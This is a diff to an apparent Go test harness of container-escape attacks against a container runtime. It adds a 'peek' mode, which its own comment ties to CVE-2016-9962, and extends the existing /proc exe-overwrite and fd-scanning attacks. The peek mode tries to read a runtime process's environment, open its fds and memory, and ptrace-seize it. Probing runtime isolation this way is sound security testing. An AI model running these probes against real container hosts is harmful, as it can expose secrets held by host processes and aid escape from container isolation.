@@ -43,6 +43,8 @@ func main() {
 		}
 	case "swap":
 		swap(os.Args[2], os.Args[3])
+	case "peek":
+		peek(os.Args[2], len(os.Args) > 3 && os.Args[3] == "noptrace")
 	default:
 		fmt.Fprintln(os.Stderr, "unknown attack", os.Args[1])
 		os.Exit(2)
@@ -80,6 +82,7 @@ func exe(args []string) {
 	deadline := time.Now().Add(d)
 	self := os.Getpid()
 	held := map[int]int{} // pid -> O_PATH fd of its exe
+	denied := map[int]bool{}
 	caught, wrote := 0, 0
 	for time.Now().Before(deadline) {
 		ents, _ := os.ReadDir("/proc")
@@ -92,6 +95,11 @@ func exe(args []string) {
 				continue
 			}
 			link, err := os.Readlink("/proc/" + e.Name() + "/exe")
+			if errors.Is(err, unix.EACCES) && !denied[pid] {
+				// Only a non-dumpable process hides its exe here: in this
+				// container, a runtime init before its execve.
+				denied[pid] = true
+			}
 			if err != nil || !runtimeExe(link) {
 				continue
 			}
@@ -133,7 +141,7 @@ func exe(args []string) {
 			held[pid] = -1
 		}
 	}
-	fmt.Println("caught", caught, "wrote", wrote)
+	fmt.Println("caught", caught, "wrote", wrote, "denied", len(denied))
 }
 
 // runtimeExe says whether an exe link is not one of the container's own
@@ -155,7 +163,7 @@ func cwd() {
 		names = append(names, e.Name())
 	}
 	fmt.Println("root", strings.Join(names, ","), errno(err))
-	for fd := 3; fd < 20; fd++ {
+	for fd := 3; fd < 1024; fd++ { // a caller's fds may sit high (a shell's 255)
 		if l, err := os.Readlink("/proc/self/fd/" + strconv.Itoa(fd)); err == nil {
 			fmt.Println("fd", fd, l)
 		}
@@ -189,4 +197,63 @@ func swap(a, b string) {
 			fmt.Println("swapping")
 		}
 	}
+}
+
+// peek is CVE-2016-9962: once the file names a pid (a runtime process
+// that joined the container, held before its execve), try what a process
+// with the same ids and capabilities could do to it: read its
+// environment, open its fds and memory, attach to it (unless noptrace:
+// a process held inside its execve makes an attach wait for the execve).
+func peek(file string, noptrace bool) {
+	var pid string
+	for {
+		if b, err := os.ReadFile(file); err == nil && len(b) > 0 {
+			pid = strings.TrimSpace(string(b))
+			os.Remove(file)
+			break
+		}
+		time.Sleep(10 * time.Millisecond)
+	}
+	p := "/proc/" + pid
+	_, err := os.ReadFile(p + "/environ")
+	fmt.Println("environ", errno(err))
+	ents, err := os.ReadDir(p + "/fd")
+	fmt.Println("fd-list", len(ents), errno(err))
+	names := []string{}
+	for _, e := range ents {
+		names = append(names, e.Name())
+	}
+	if err != nil { // not listed: guess
+		for n := 0; n < 16; n++ {
+			names = append(names, strconv.Itoa(n))
+		}
+	}
+	for _, n := range names {
+		f := p + "/fd/" + n
+		if _, err := os.Lstat(f); err != nil {
+			continue
+		}
+		fd, err := unix.Open(f, unix.O_PATH|unix.O_CLOEXEC, 0)
+		if err == nil {
+			unix.Close(fd)
+		}
+		link, lerr := os.Readlink(f)
+		fmt.Println("fd", n, "open", errno(err), "readlink", errno(lerr), link)
+	}
+	fd, err := unix.Open(p+"/mem", unix.O_RDONLY|unix.O_CLOEXEC, 0)
+	if err == nil {
+		unix.Close(fd)
+	}
+	fmt.Println("mem", errno(err))
+	if noptrace {
+		fmt.Println("done", pid)
+		return
+	}
+	n, err := strconv.Atoi(pid)
+	if err == nil {
+		// Seize, not attach: no SIGSTOP left behind; our exit detaches.
+		err = unix.PtraceSeize(n)
+	}
+	fmt.Println("ptrace", errno(err))
+	fmt.Println("done", pid)
 }
